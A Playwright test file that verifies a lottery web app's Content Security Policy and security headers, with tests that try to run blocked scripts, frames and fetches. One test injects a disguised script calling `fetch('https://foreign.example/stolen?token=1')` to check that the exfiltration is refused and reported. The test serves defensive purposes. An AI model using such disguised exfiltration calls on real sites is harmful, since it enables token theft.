import { expect, test } from '@playwright/test';
import { withoutPopup } from '../support/home';
import { choose, openGame, playAsNewMember, review } from '../support/lottery';
import { signInAsNewMember } from '../support/newMember';
import { operate } from '../support/operator';
import { mainAddress } from '../support/ports';
import { shortGame } from '../support/shortGame';
import { watchWithFullAccess } from '../support/videoMember';
import { watchViolations } from '../support/violations';
import { visit } from '../support/visit';

test.beforeEach(async ({ page }) => {
  await withoutPopup(page);
});

/** `routes.spec.ts` looks for violations on all routes as they open. */
test.describe('the policy of the page is kept by the app itself (SEC-02)', () => {
  test('while a member plays and verifies', { tag: '@long' }, async ({ page, context, request }) => {
    test.setTimeout(150_000);
    const violations = await watchViolations(context);
    const member = await playAsNewMember(page, request);
    await openGame(page, member, { key: shortGame.key, seconds: 16 });
    await choose(page, ['Big'], '10');
    await (await review(page)).getByRole('button', { name: /^Submit/ }).click();
    await page.getByRole('button', { name: 'Results and verify' }).click();
    await page
      .getByRole('button', { name: /^Verify period/ })
      .first()
      .click();
    await expect(page.getByRole('dialog', { name: 'Verify' }).getByRole('status')).toBeVisible();
    await page.goto(`${mainAddress}/verify.html`);
    await page.getByRole('textbox').fill('{}');
    await page.getByRole('button', { name: 'Verify' }).click();
    await expect(page.getByRole('status')).not.toBeEmpty();
    expect(violations).toEqual([]);
  });

  test('while a clip plays, with its captions', { tag: '@long' }, async ({ page, context }) => {
    const violations = await watchViolations(context);
    await watchWithFullAccess(page);
    expect(violations).toEqual([]);
  });

  test('while a payment stands in its frame', { tag: '@long' }, async ({ page, context }) => {
    const violations = await watchViolations(context);
    await signInAsNewMember(page);
    await visit(page, '/Channel?money=100');
    await page.getByRole('button', { name: 'Sandbox transfer' }).click();
    const frame = page.frameLocator('iframe[title="Payment page"]');
    await frame.getByRole('button', { name: 'Pay' }).click();
    await expect(page.getByRole('status').getByText('Paid')).toBeVisible();
    expect(violations).toEqual([]);
  });
});

test.describe('what the policy refuses (SEC-01)', () => {
  test('inline code, code in texts, foreign scripts, frames, pictures and calls', async ({ page }) => {
    await visit(page, '/Home');
    const directives = ['base-uri', 'connect-src', 'frame-src', 'img-src', 'style-src-attr'];
    const outcome = await page.evaluate(
      async ({ foreign, directives }) => {
        // The browser lets a debugger's own task evaluate texts; a later one is the page's.
        await new Promise((resolve) => setTimeout(resolve));
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          seen.push(effectiveDirective),
        );
        const refused = (work: () => unknown) => {
          try {
            work();
            return false;
          } catch {
            return true;
          }
        };
        const element = <Name extends keyof HTMLElementTagNameMap>(name: Name) =>
          document.body.appendChild(document.createElement(name));
        const thrown = [
          // oxlint-disable-next-line no-eval -- refused
          refused(() => eval('1')),
          refused(() => new Function('return 1')),
          refused(() => (element('script').src = `${foreign}/x.js`)),
          refused(() => (element('script').src = '/media/x.js')),
          refused(() => (element('script').src = '/remotes/mfe-lottery/0.0.0+none/remoteEntry.js')),
          refused(() => (element('script').src = 'data:text/javascript,1')),
          refused(() => (element('script').text = 'window.ran = true')),
          refused(() => setTimeout('window.ran = true' as unknown as () => void)),
        ];
        const inline = element('div');
        inline.setAttribute('style', 'color: red');
        element('iframe').src = `${foreign}/`;
        element('img').src = `${foreign}/x.png`;
        element('base').href = foreign;
        await fetch(foreign).catch(() => undefined);
        // Some violations are reported by another process, with a delay.
        const until = performance.now() + 10_000;
        while (directives.some((each) => !seen.includes(each)) && performance.now() < until)
          await new Promise((resolve) => setTimeout(resolve, 50));
        const { ran } = window as { ran?: boolean };
        return { thrown, seen: [...new Set(seen)].sort(), ran, base: document.baseURI };
      },
      { foreign: 'https://foreign.example', directives },
    );
    expect(outcome.thrown).toEqual(Array(8).fill(true));
    expect(outcome.ran).toBeUndefined();
    expect(outcome.base).toContain(mainAddress);
    expect(outcome.seen).toEqual(expect.arrayContaining(directives));
  });

  test('reaches operators, with the release whose script did it (SEC-03)', async ({ page }) => {
    await visit(page, '/Game');
    const entry = await page.evaluate(
      () =>
        performance
          .getEntriesByType('resource')
          .map(({ name }) => name)
          .find((name) => /\/remotes\/mfe-lottery\/.*\.js$/.test(name)) ?? '',
    );
    const [, release] = /\/remotes\/mfe-lottery\/([^/]+)\//.exec(entry) ?? [];
    // A script that says it is one of the release's, as the browser would name it.
    const client = await page.context().newCDPSession(page);
    const expression = `fetch('https://foreign.example/stolen?token=1').catch(() => 0)\n//# sourceURL=${entry}`;
    await client.send('Runtime.evaluate', { expression });
    const reported = () => operate('violations', '--json');
    await expect
      .poll(reported, { timeout: 60_000, intervals: [2_000] })
      .toContain(`"release": "${decodeURIComponent(release ?? '')}"`);
    const { violations } = JSON.parse(await reported()) as { violations: Record<string, string>[] };
    expect(violations).toContainEqual(
      expect.objectContaining({ remote: 'mfe-lottery', directive: 'connect-src' }),
    );
    expect(JSON.stringify(violations)).not.toContain('token=1');
  });

  test('every answer carries its headers, the page the strictest', async ({ request }) => {
    const headersOf = async (path: string) => (await request.get(`${mainAddress}${path}`)).headers();
    for (const path of ['/api/system/base', '/registry.jws', '/nothing', '/healthz', '/media/logo.svg'])
      expect(await headersOf(path), path).toMatchObject({
        'x-content-type-options': 'nosniff',
        'content-security-policy': expect.stringContaining("default-src 'none'"),
        'referrer-policy': expect.stringMatching(/^no-referrer$/),
      });
    const page = await headersOf('/');
    expect(page).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'referrer-policy': 'strict-origin',
      'x-content-type-options': 'nosniff',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
    expect(page['content-security-policy']).not.toContain('unsafe');
    expect(page['strict-transport-security'], 'over http').toBeUndefined();
    const nonces = [page, await headersOf('/')].map(
      (each) => /nonce-([^']+)/.exec(each['content-security-policy'] ?? '')?.[1],
    );
    expect(nonces[0]).not.toBe(nonces[1]);
  });
});
